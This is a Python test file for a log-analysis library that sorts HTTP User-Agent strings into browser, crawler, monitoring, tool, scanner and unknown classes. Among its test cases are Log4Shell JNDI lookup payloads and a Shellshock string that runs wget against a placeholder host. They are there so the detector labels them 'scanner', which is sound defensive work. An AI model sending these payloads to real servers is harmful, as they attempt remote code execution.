"""Tests for pplog.enrich.agents: User-Agent classes as polars expressions."""

from __future__ import annotations

from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from polars.testing import assert_frame_equal

import pplog
from pplog.enrich.agents import (
    AGENT_CLASSES,
    BOT_CLASSES,
    agent_class,
    agent_class_per_value,
    classify,
    is_bot,
    is_health_check,
)

SAMPLE_LOGS = Path(__file__).resolve().parent.parent / "sample_logs"

CHROME = "Chrome/120.0.6099.216"

# Published User-Agent strings (vendor documentation, or as seen in the wild).
CASES: list[tuple[str | None, str]] = [
    # browsers, desktop and mobile
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        "browser",
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 "
        "Firefox/121.0",
        "browser",
    ),
    (
        "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
        "browser",
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Version/17.2 Safari/605.1.15",
        "browser",
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0",
        "browser",
    ),
    (
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36",
        "browser",
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) "
        "AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 "
        "Safari/604.1",
        "browser",
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) "
        "AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/120.0.6099.119 "
        "Mobile/15E148 Safari/604.1",
        "browser",
    ),
    ("Mozilla/5.0 (Android 14; Mobile; rv:121.0) Gecko/121.0 Firefox/121.0", "browser"),
    (
        "Mozilla/5.0 (Linux; Android 13; SM-S901B) AppleWebKit/537.36 "
        "(KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile "
        "Safari/537.36",
        "browser",
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
        "browser",
    ),
    ("Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.18", "browser"),
    # a phone model whose name ends in "bot" is still a browser
    (
        "Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
        "browser",
    ),
    # search engines, SEO crawlers, link previewers
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; "
        f"Googlebot/2.1; +http://www.google.com/bot.html) {CHROME} Safari/537.36",
        "search_bot",
    ),
    (
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) "
        f"AppleWebKit/537.36 (KHTML, like Gecko) {CHROME} Mobile Safari/537.36 "
        "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "search_bot",
    ),
    (
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "search_bot",
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; "
        "bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 "
        "Safari/537.36",
        "search_bot",
    ),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", "search_bot"),
    (
        "Mozilla/5.0 (compatible; Baiduspider/2.0; "
        "+http://www.baidu.com/search/spider.html)",
        "search_bot",
    ),
    ("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", "search_bot"),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; "
        "+http://www.apple.com/go/applebot)",
        "search_bot",
    ),
    (
        "Mozilla/5.0 (compatible; Yahoo! Slurp; "
        "http://help.yahoo.com/help/us/ysearch/slurp)",
        "search_bot",
    ),
    (
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        "search_bot",
    ),
    ("Twitterbot/1.0", "search_bot"),
    # contains Apache-HttpClient, but is LinkedIn's previewer
    (
        "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient "
        "+http://www.linkedin.com)",
        "search_bot",
    ),
    ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "search_bot"),
    ("Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", "search_bot"),
    (
        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
        "search_bot",
    ),
    (
        "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
        "search_bot",
    ),
    ("Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", "search_bot"),
    (
        "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Mobile Safari/537.36 (compatible; PetalBot;"
        "+https://webmaster.petalsearch.com/site/petalbot)",
        "search_bot",
    ),
    # named by crawler-user-agents only (issue 16): feed readers, previews,
    # headless browsers (browser-automation) are crawlers
    ("FeedBurner/1.0 (http://www.FeedBurner.com)", "search_bot"),
    ("Feedbin - 1 subscribers", "search_bot"),
    ("Tiny Tiny RSS/1.11 (http://tt-rss.org/)", "search_bot"),
    (
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; "
        "Google Web Preview) Chrome/27.0.1453 Safari/537.36",
        "search_bot",
    ),
    (
        "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/534.34 (KHTML, like "
        "Gecko) PhantomJS/1.9.2 Safari/534.34",
        "search_bot",
    ),
    (
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "HeadlessChrome/120.0.6099.28 Safari/537.36",
        "search_bot",
    ),
    # the list's tags: monitoring, scanner, ai-crawler, http-library
    (
        "Mozilla/5.0 (compatible; Cloudflare-Healthchecks/1.0; "
        "+https://www.cloudflare.com/; healthcheck-id: AAAAAAAAAAAAAAAA)",
        "monitoring",
    ),
    ("binlar_2.6.3 test@mgmt.mic", "scanner"),
    (
        "Mozilla/5.0 (compatible; KunatoCrawler/1.0; +http://kunato.ai/bot.html)",
        "ai_crawler",
    ),
    ("Mozilla/5.0 (compatible; GoParserBot/1.0)", "tool"),
    # named by the list as a crawler, sharpened by pplog's AI patterns
    ("YouBot (+http://www.you.com)", "ai_crawler"),
    # a payload is a scanner whatever crawler it names
    ("Googlebot/2.1 ${jndi:ldap://198.51.100.77/a}", "scanner"),
    # generic fallback: a self-declared crawler nobody named
    ("Mozilla/5.0 (compatible; ExampleCrawler/1.0)", "search_bot"),
    (
        'Mozilla/5.0 (compatible; "LinkChecker"/2.1; +https://www.example.com/bot)',
        "search_bot",
    ),
    (
        "Mozilla/5.0 (compatible; SiteWatch/2.0; +https://example.com/bot.php)",
        "search_bot",
    ),
    # AI crawlers and assistants
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; "
        "GPTBot/1.0; +https://openai.com/gptbot",
        "ai_crawler",
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; "
        "GPTBot/1.2; +https://openai.com/gptbot",
        "ai_crawler",
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; "
        "ChatGPT-User/1.0; +https://openai.com/bot",
        "ai_crawler",
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; "
        "OAI-SearchBot/1.0; +https://openai.com/searchbot",
        "ai_crawler",
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; "
        "ClaudeBot/1.0; +claudebot@anthropic.com)",
        "ai_crawler",
    ),
    ("CCBot/2.0 (https://commoncrawl.org/faq/)", "ai_crawler"),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; "
        "PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)",
        "ai_crawler",
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; "
        "Perplexity-User/1.0; +https://perplexity.ai/perplexity-user)",
        "ai_crawler",
    ),
    (
        "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Mobile Safari/537.36 (compatible; Bytespider; "
        "spider-feedback@bytedance.com)",
        "ai_crawler",
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; "
        "Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot) "
        "Chrome/119.0.6045.214 Safari/537.36",
        "ai_crawler",
    ),
    (
        "meta-externalagent/1.1 "
        "(+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
        "ai_crawler",
    ),
    (
        "Mozilla/5.0 (compatible; FacebookBot/1.0; "
        "+https://developers.facebook.com/docs/sharing/webmasters/facebookbot/)",
        "ai_crawler",
    ),
    (
        "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like "
        "Gecko) Chrome/24.0.1312.52 Safari/537.36 (compatible; Diffbot/0.1; "
        "+http://www.diffbot.com)",
        "ai_crawler",
    ),
    ("Timpibot/0.8 (+http://www.timpi.io)", "ai_crawler"),
    # health checks and uptime monitors
    ("ELB-HealthChecker/2.0", "monitoring"),
    ("kube-probe/1.29", "monitoring"),
    ("GoogleHC/1.0", "monitoring"),
    ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "monitoring"),
    (
        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        "monitoring",
    ),
    ("NewRelicPinger/1.0 (1234567)", "monitoring"),
    ("Datadog Agent/7.50.3", "monitoring"),
    ("check_http/v2.3.3 (monitoring-plugins 2.3.3)", "monitoring"),
    ("Zabbix", "monitoring"),
    ("Blackbox Exporter/0.24.0", "monitoring"),
    (
        "Amazon-Route53-Health-Check-Service (ref "
        "0e1f2a3b-4c5d-6e7f-8a9b-0c1d2e3f4a5b; report http://amzn.to/1vsZADi)",
        "monitoring",
    ),
    (
        "GoogleStackdriverMonitoring-UptimeChecks(https://cloud.google.com/monitoring)",
        "monitoring",
    ),
    ("HealthCheck/1.0", "monitoring"),
    # command-line tools, libraries, app HTTP stacks
    ("curl/8.5.0", "tool"),
    ("curl/7.81.0", "tool"),
    ("Wget/1.21.4", "tool"),
    ("python-requests/2.31.0", "tool"),
    ("Python-urllib/3.11", "tool"),
    ("Python/3.11 aiohttp/3.9.1", "tool"),
    ("python-httpx/0.27.0", "tool"),
    ("Go-http-client/1.1", "tool"),
    ("Go-http-client/2.0", "tool"),
    ("okhttp/4.12.0", "tool"),
    ("Java/17.0.2", "tool"),
    ("Apache-HttpClient/4.5.14 (Java/17.0.9)", "tool"),
    ("libwww-perl/6.72", "tool"),
    ("PostmanRuntime/7.36.0", "tool"),
    ("axios/1.6.2", "tool"),
    ("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "tool"),
    ("Ruby", "tool"),
    ("GuzzleHttp/7", "tool"),
    ("HTTPie/3.2.2", "tool"),
    ("Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)", "tool"),
    ("RéseauMobile/4.2 CFNetwork/1568.200.51 Darwin/24.1.0", "tool"),
    ("Dart/3.2 (dart:io)", "tool"),
    ("Scrapy/2.11.0 (+https://scrapy.org)", "tool"),
    # configuration management: a contact URL, but no crawler (issue 16)
    (
        "Chef Client/10.18.2 (ruby-1.9.3-p327; ohai-6.16.0; x86_64-linux; "
        "+http://opscode.com)",
        "tool",
    ),
    # scanners and exploit payloads
    ("Mozilla/5.0 zgrab/0.x", "scanner"),
    (
        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
        "scanner",
    ),
    ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "scanner"),
    (
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; "
        "https://nmap.org/book/nse.html)",
        "scanner",
    ),
    (
        "Expanse, a Palo Alto Networks company, searches across the global IPv4 "
        "space multiple times per day to identify customers' presences on the "
        "Internet. If you would like to be excluded from our scans, please send "
        "IP addresses/domains to: scaninfo@paloaltonetworks.com",
        "scanner",
    ),
    ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "scanner"),
    ("sqlmap/1.7.2#stable (https://sqlmap.org)", "scanner"),
    ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "scanner"),
    ("Mozilla/5.0 (l9explore/1.2.2)", "scanner"),
    ("${jndi:ldap://198.51.100.77:1389/Basic/Command/Base64/dG91Y2g=}", "scanner"),
    ("${${lower:j}ndi:${lower:l}dap://198.51.100.77/a}", "scanner"),
    (
        "Mozilla/5.0 (Windows NT 10.0) ${jndi:ldap://198.51.100.77/a} "
        "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        "scanner",
    ),
    ('() { :; }; /bin/bash -c "wget http://198.51.100.77/x"', "scanner"),
    # missing or unrecognised
    ("", "unknown"),
    (None, "unknown"),
    ("-", "unknown"),
    ("   ", "unknown"),
    ("ExampleApp/5.2.1 (iPhone; iOS 18.1; Scale/3.00)", "unknown"),
    ("Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)", "unknown"),
    ("Mozilla/5.0", "unknown"),
    ("hello", "unknown"),
]


def _frame(uas: list[str | None]) -> pl.DataFrame:
    return pl.DataFrame({"http_user_agent": pl.Series(uas, dtype=pl.String)})


def test_table_is_large_and_covers_every_class() -> None:
    assert len(CASES) >= 40
    assert {cls for _, cls in CASES} == set(AGENT_CLASSES)


@pytest.mark.parametrize(("ua", "expected"), CASES)
def test_agent_class(ua: str | None, expected: str) -> None:
    assert classify([ua]) == [expected]


def test_whole_table_in_one_frame() -> None:
    uas = [ua for ua, _ in CASES]
    got = _frame(uas).select(agent_class(), is_bot(), is_health_check())
    expected = pl.DataFrame(
        {
            "agent_class": [cls for _, cls in CASES],
            "is_bot": [cls in BOT_CLASSES for _, cls in CASES],
            "is_health_check": [cls == "monitoring" for _, cls in CASES],
        }
    )
    assert_frame_equal(got, expected)


def test_tools_are_not_bots() -> None:
    assert "tool" not in BOT_CLASSES
    assert set(BOT_CLASSES) == {"search_bot", "ai_crawler", "monitoring", "scanner"}
    got = _frame(["curl/8.5.0", "okhttp/4.12.0", None]).select(is_bot())
    assert got["is_bot"].to_list() == [False, False, False]


def test_other_column_name() -> None:
    df = pl.DataFrame({"ua": ["kube-probe/1.29", "Wget/1.21.4"]})
    got = df.select(agent_class("ua"), is_health_check("ua"), is_bot("ua"))
    expected = pl.DataFrame(
        {
            "agent_class": ["monitoring", "tool"],
            "is_health_check": [True, False],
            "is_bot": [True, False],
        }
    )
    assert_frame_equal(got, expected)


def test_classify_keeps_order_and_length() -> None:
    assert classify([]) == []
    assert classify(["curl/8.5.0", None, "GoogleHC/1.0"]) == [
        "tool",
        "unknown",
        "monitoring",
    ]


def test_lazy_and_streaming_engines_agree() -> None:
    uas = [ua for ua, _ in CASES] * 50
    lf = _frame(uas).lazy().with_columns(agent_class(), is_bot(), is_health_check())
    default = lf.collect()
    streaming = lf.collect(engine="streaming")
    assert_frame_equal(default, streaming)
    assert default["agent_class"].to_list() == [cls for _, cls in CASES] * 50
    assert default["agent_class"].null_count() == 0


# Fragments that steer generated text into every rule and across rule borders.
_FRAGMENTS = st.sampled_from(
    [
        "Mozilla/5.0 ",
        "(compatible; ",
        "AppleWebKit/537.36 ",
        "Gecko/20100101 ",
        "Googlebot/2.1",
        "GPTBot/1.2",
        "ELB-HealthChecker/2.0",
        "curl/8.5.0",
        "zgrab",
        "${jndi:",
        "bot",
        "+https://",
        "-",
        "",
        " ",
        "\\x22",
        '"',
        "\n",
        "\x00",
    ]
)
_USER_AGENTS = st.one_of(
    st.none(),
    st.text(),
    st.lists(st.one_of(_FRAGMENTS, st.text(max_size=8)), max_size=8).map("".join),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(_USER_AGENTS, max_size=20))
def test_any_text_gets_exactly_one_known_class(uas: list[str | None]) -> None:
    got = _frame(uas).select(agent_class(), is_bot(), is_health_check())
    assert got.height == len(uas)
    assert got.null_count().row(0) == (0, 0, 0)
    classes = got["agent_class"].to_list()
    assert set(classes) <= set(AGENT_CLASSES)
    assert got["is_bot"].to_list() == [c in BOT_CLASSES for c in classes]
    assert got["is_health_check"].to_list() == [c == "monitoring" for c in classes]
    assert classify(uas) == classes


def test_sample_elb_log() -> None:
    frame = pplog.read_log(SAMPLE_LOGS / "elb-access.log").with_columns(
        agent_class(), is_bot(), is_health_check()
    )
    assert frame["agent_class"].null_count() == 0
    assert set(frame["agent_class"].unique()) <= set(AGENT_CLASSES)

    elb = frame.filter(pl.col("http_user_agent").str.starts_with("ELB-HealthChecker"))
    assert elb.height > 0
    assert (elb["agent_class"] == "monitoring").all()
    assert elb["is_health_check"].all()
    assert elb["is_bot"].all()
    assert frame["is_health_check"].sum() == elb.height

    by_ua = dict(frame.select("http_user_agent", "agent_class").unique().iter_rows())
    assert by_ua[None] == "unknown"
    assert by_ua["Mozilla/5.0 zgrab/0.x"] == "scanner"
    assert by_ua["okhttp/4.12.0"] == "tool"


CORPORA = Path(__file__).resolve().parent.parent.parent / "shared" / "corpora"


def test_per_value_classes_equal_the_per_row_rules_over_batches(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """`agent_class_per_value` (what `scan_log` adds) gives every row the class
    `agent_class` gives it, through batches that repeat, add and forget user
    agents: with room for 5 answers, most batches overflow what is kept."""
    import pplog.enrich.agents as agents

    monkeypatch.setattr(agents, "_KEPT", 5)
    uas = [ua for ua, _ in CASES]
    rows = [uas[(i * 7) % len(uas)] for i in range(3000)] + [None, "", "-"]
    frame = _frame(rows)
    batches = pl.concat(
        [frame.slice(i, 97) for i in range(0, frame.height, 97)], rechunk=False
    )
    expected = frame.select(agent_class())
    got = batches.lazy().select(agent_class_per_value()).collect(engine="streaming")
    assert_frame_equal(got, expected)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.lists(_USER_AGENTS, max_size=30), max_size=6))
def test_per_value_classes_equal_per_row_classes_on_any_text(
    batches: list[list[str | None]],
) -> None:
    """One query over several batches of arbitrary user agents."""
    frames = [_frame(b) for b in batches if b]
    if not frames:
        return
    frame = pl.concat(frames, rechunk=False)
    classes_of = agent_class_per_value()
    got = frame.lazy().select(classes_of).collect(engine="streaming")
    assert_frame_equal(got, frame.select(agent_class()))


def test_scan_log_classifies_each_distinct_user_agent_once(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The rules run on the distinct user agents, not on every request: the
    public Apache log's 10,000 requests carry about 2,000 of them."""
    import pplog.enrich.agents as agents

    classified: list[int] = []
    per_row = agents.classify

    def counting(user_agents: list[str | None]) -> list[str]:
        classified.append(len(user_agents))
        return per_row(user_agents)

    monkeypatch.setattr(agents, "classify", counting)
    frame = pplog.read_log(
        CORPORA / "elastic-examples" / "apache_logs", format="combined"
    )
    distinct = frame.get_column("http_user_agent").n_unique()
    assert sum(classified) == distinct < frame.height / 4
    assert_frame_equal(
        frame.select("agent_class"), frame.select(agent_class()), check_dtypes=True
    )


def test_every_example_in_the_crawler_list_gets_its_entrys_class() -> None:
    """crawler-user-agents ships example user agents for each pattern: each
    gets the class of its entry's tags, or a sharper bot class from pplog's
    own AI, monitoring and scanner patterns, and never `browser`/`unknown`."""
    from pplog.enrich._crawlers import entries, entry_class

    examples = [
        (ua, entry_class(e["tags"])) for e in entries() for ua in e["instances"]
    ]
    assert len(examples) > 2000
    got = classify([ua for ua, _ in examples])
    sharpened = 0
    for (ua, expected), cls in zip(examples, got, strict=True):
        if cls != expected:
            assert expected in ("search_bot", "tool"), ua
            assert cls in ("ai_crawler", "monitoring", "scanner"), ua
            sharpened += 1
    assert sharpened < 20


def test_crawler_list_tags_decide_the_class() -> None:
    from pplog.enrich._crawlers import class_patterns, entry_class

    assert entry_class(["search-engine", "ai-crawler"]) == "ai_crawler"
    assert entry_class(["feed-reader"]) == "search_bot"
    assert entry_class(["browser-automation"]) == "search_bot"
    assert entry_class(["http-library"]) == "tool"
    assert entry_class(["scanner", "academic"]) == "scanner"
    assert entry_class(["a-tag-from-a-later-release"]) == "search_bot"
    assert list(class_patterns()) == [
        "scanner",
        "monitoring",
        "ai_crawler",
        "search_bot",
        "tool",
    ]


def test_public_apache_log_from_the_issue() -> None:
    """Issue 16: on the 10,000-line public Apache log, the feed fetchers,
    Google Web Preview and PhantomJS are bots, and Chef Client is a tool."""
    log = CORPORA / "elastic-examples" / "apache_logs"
    per_ua = (
        pplog.read_log(log, format="combined")
        .group_by("http_user_agent")
        .len()
        .with_columns(agent_class())
    )

    def requests(fragment: str) -> dict[str, int]:
        rows = per_ua.filter(pl.col("http_user_agent").str.contains(fragment))
        return dict(rows.group_by("agent_class").agg(pl.col("len").sum()).iter_rows())

    assert requests("FeedBurner") == {"search_bot": 108}
    assert requests("^Feedbin") == {"search_bot": 50}
    assert requests("Google Web Preview") == {"search_bot": 7}
    assert requests("PhantomJS") == {"search_bot": 5}
    assert requests("^Chef Client") == {"tool": 61}


def test_a_list_pattern_the_regex_engine_refuses_is_left_out_with_a_warning(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A release of crawler-user-agents with, say, a look-around must not stop
    every summary (polars' regex engine has none)."""
    from pplog.enrich import _crawlers

    shipped = _crawlers.entries()
    bad = {"pattern": "(?<=x)bot", "tags": ["search-engine"]}
    monkeypatch.setattr(_crawlers, "entries", lambda: (*shipped, bad))
    _crawlers.class_patterns.cache_clear()
    try:
        with pytest.warns(pplog.PplogWarning, match=r"1 pattern\(s\) pplog cannot use"):
            patterns = _crawlers.class_patterns()
        assert "(?<=x)bot" not in patterns["search_bot"]
        assert "Googlebot" in patterns["search_bot"]
        frame = pl.DataFrame({"ua": ["Mozilla/5.0 (compatible; Googlebot/2.1)"]})
        assert frame.select(pl.col("ua").str.contains(patterns["search_bot"])).item()
    finally:
        _crawlers.class_patterns.cache_clear()


def test_every_shipped_list_pattern_compiles_in_polars() -> None:
    """pplog screens the list only for the syntax polars lacks (look-around,
    back-references...); this checks the shipped release as a whole."""
    from pplog.enrich import _crawlers

    patterns = _crawlers.class_patterns()
    assert set(patterns) <= set(_crawlers.RANK)
    for joined in patterns.values():
        assert _crawlers._compiles(joined)
    # none left out: every entry's pattern is in its class's alternation
    for entry in _crawlers.entries():
        name = _crawlers.entry_class(list(entry.get("tags") or []))
        assert f"(?:{entry['pattern']})" in patterns[name]
